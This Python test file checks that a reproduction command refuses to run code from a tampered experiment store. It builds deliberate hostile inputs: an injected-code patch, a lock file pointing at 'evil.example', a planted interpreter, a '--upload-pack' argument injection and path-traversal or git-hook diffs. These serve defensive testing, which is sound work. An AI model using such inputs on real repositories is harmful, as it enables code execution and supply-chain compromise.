"""A store that somebody prepared, all its digests made anew, and `reproduce --at-commit` on it: nothing of it runs."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from benchmarks.clone import Edit, clone, commit, encore, git
from errors import UserError
from experiments.reproduction.at_commit import _apply_patch, _worktree
from experiments.reproduction.trust import RecordedCode
from runs.files import RunFiles
from tests.end_to_end.prepared_code import PATCH, PROVENANCE, prepare
from tests.processes import inside
from tests.tiny import REPEATED_CLASSIFIER
from tracking.entities import Experiment
from tracking.store import Store


class Scene:
    """A trained run, its repository, and a file that is there once code of the store has run."""

    def __init__(self, folder: Path, root: Path) -> None:
        self.root, self.marker, self.cache = root, folder / "marker", folder / "cache"
        self.repository = clone(folder / "repository")
        made = self.encore(
            "train", "demo_reviews", *REPEATED_CLASSIFIER, "export.when=never", "--root", root, "--json"
        )
        assert made.returncode == 0, made.stderr
        self.run_id = json.loads(made.stdout)["run_id"]
        store = Store.open(root)
        self.own = {
            name: store.artifact(store.find(self.run_id), name).read_text() for name in (PATCH, PROVENANCE)
        }

    def encore(self, *arguments: object) -> object:
        environment = {"XDG_CACHE_HOME": str(self.cache)}
        return encore(self.repository, *arguments, environment=environment)

    def patch(self, file: str, old: str, new: str) -> str:
        """What git says of a change, which is taken back."""
        Edit(self.repository / file, old, new).make()
        text = git(self.repository, "diff")
        git(self.repository, "checkout", "-q", "--", ".")
        return text

    def plant_python(self, lock_digest: str) -> None:
        """One that stands ready in the store, for that lock, and says that it is complete."""
        planted = self.root / "cache" / "environments" / lock_digest[:16] / "bin" / "python"
        planted.parent.mkdir(parents=True)
        planted.write_text(f"#!/bin/sh\ntouch {self.marker}\n")
        planted.chmod(0o755)
        (planted.parent.parent / "complete").touch()

    def provenance(self, lock: str | None = None, **code: object) -> str:
        told = json.loads(self.own[PROVENANCE])
        return json.dumps(
            {**told, "lock_digest": lock or told["lock_digest"], "code": {**told["code"], **code}}
        )

    def reproduce(self, *more: str) -> str:
        """Its one line; it ends with 2. In this process, over that repository: what is refused needs no other."""
        self.marker.unlink(missing_ok=True)
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("XDG_CACHE_HOME", str(self.cache))
            for module in ("at_commit", "trust"):
                patch.setattr(f"experiments.reproduction.{module}.REPOSITORY", self.repository)
            ended = inside("reproduce", self.run_id, "--at-commit", *more, "--root", self.root)
        assert ended.returncode == 2, ended.stderr + ended.stdout
        return ended.stderr.strip().splitlines()[-1]


@pytest.mark.slow
def test_nothing_of_a_prepared_store_runs_unless_somebody_says_so(tmp_path: Path, root: Path) -> None:
    scene = Scene(tmp_path, root)
    touch = f"import pathlib; pathlib.Path({str(scene.marker)!r}).touch()\n"
    first = '"""`python -m cli` is `encore`."""\n'
    evil = scene.patch("cli/__main__.py", first, f"{first}{touch}")
    lock = "--index-url https://evil.example/simple\n"
    pins = (scene.repository / "requirements.lock").read_text()
    evil_lock = scene.patch("requirements.lock", pins[:40], lock + pins[:40])
    lock_digest = hashlib.sha256((lock + pins).encode()).hexdigest()

    scene.plant_python(lock_digest)
    git(scene.repository, "checkout", "-q", "-b", "theirs")
    Edit(scene.repository / "cli" / "__main__.py", first, f"{first}{touch}").make()
    commit(scene.repository, "an innocent change")
    theirs = git(scene.repository, "rev-parse", "HEAD").strip()
    git(scene.repository, "checkout", "-q", "-")

    prepared = {
        "a patch": {PATCH: evil},
        "a commit": {PROVENANCE: scene.provenance(commit=theirs)},
        "a lock and a Python": {PATCH: evil_lock, PROVENANCE: scene.provenance(lock_digest)},
        "another folder": {PROVENANCE: scene.provenance(folder="tests/")},
    }
    for what, files in prepared.items():
        prepare(root, scene.run_id, {**scene.own, **files})
        assert "this machine has not recorded the code of this run" in scene.reproduce(), what
        assert not scene.marker.exists(), what
    for name in ("--upload-pack=touch marker", "HEAD", "theirs"):
        prepare(root, scene.run_id, {**scene.own, PROVENANCE: scene.provenance(commit=name)})
        assert "provenance.json is not what was recorded" in scene.reproduce("--trust")
        assert not scene.marker.exists()

    prepare(root, scene.run_id, {**scene.own, **prepared["a lock and a Python"]})
    assert "a line that is no pin ('--index-url" in scene.reproduce("--trust")
    assert not scene.marker.exists()
    assert not (scene.cache / "encore" / "environments" / lock_digest).exists()

    # The same with somebody's word: what stood in the way above was nothing else.
    prepare(root, scene.run_id, {**scene.own, PATCH: f"{evil}# seen\n"})
    trusted = scene.encore("reproduce", scene.run_id, "--at-commit", "--trust", "--root", root)
    assert scene.marker.exists(), trusted.stderr
    assert not list((scene.cache / "encore" / "worktrees").iterdir())


_ESCAPES = {
    "above": "diff --git a/../evil b/../evil\nnew file mode 100644\n--- /dev/null\n+++ b/../evil\n@@ -0,0 +1 @@\n+x\n",
    "git": "diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n--- /dev/null\n"
    "+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+x\n",
    "absolute": "diff --git /evil /evil\nnew file mode 100644\n--- /dev/null\n+++ /tmp/evil\n@@ -0,0 +1 @@\n+x\n",
    "link": "diff --git a/way b/way\nnew file mode 120000\n--- /dev/null\n+++ b/way\n@@ -0,0 +1 @@\n+..\n"
    "\\ No newline at end of file\ndiff --git a/way/evil b/way/evil\nnew file mode 100644\n--- /dev/null\n"
    "+++ b/way/evil\n@@ -0,0 +1 @@\n+x\n",
}


@pytest.mark.parametrize("way", _ESCAPES)
def test_a_patch_writes_nothing_outside_its_tree(
    way: str, tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    repository = tmp_path / "repository"
    repository.mkdir()
    git(repository, "init", "-q")
    (repository / "a").write_text("x\n")
    commit(repository, "first")
    hook = repository / ".git" / "hooks" / "post-checkout"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f"#!/bin/sh\ntouch {tmp_path}/hook-ran\n")
    hook.chmod(0o755)
    monkeypatch.setattr("experiments.reproduction.at_commit.REPOSITORY", repository)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    log = store.start_run(
        experiment=Experiment("e", "val/loss"), name="n", params={}, tags={}, description=""
    )
    log.finish("FINISHED")
    run = RunFiles(store, store.find(log.run_id))
    head = git(repository, "rev-parse", "HEAD").strip()
    code = RecordedCode(head, "", None, _ESCAPES[way].encode(), None, own=False)
    before = hook.read_text()
    with _worktree(run, code) as tree:
        if way == "absolute":  # git takes the first slash for its prefix: the file lies below the tree
            _apply_patch(run, code, tree)
            assert (tree / "tmp" / "evil").exists()
        else:
            with pytest.raises(UserError, match="the recorded patch does not apply"):
                _apply_patch(run, code, tree)
            assert {path.name for path in tree.iterdir()} == {".git", "a"}
        assert not list(tree.parent.glob("evil"))
    assert not Path("/tmp/evil").exists()  # noqa: S108
    assert hook.read_text() == before
    assert not (tmp_path / "hook-ran").exists()
    assert not list(tmp_path.rglob("evil"))
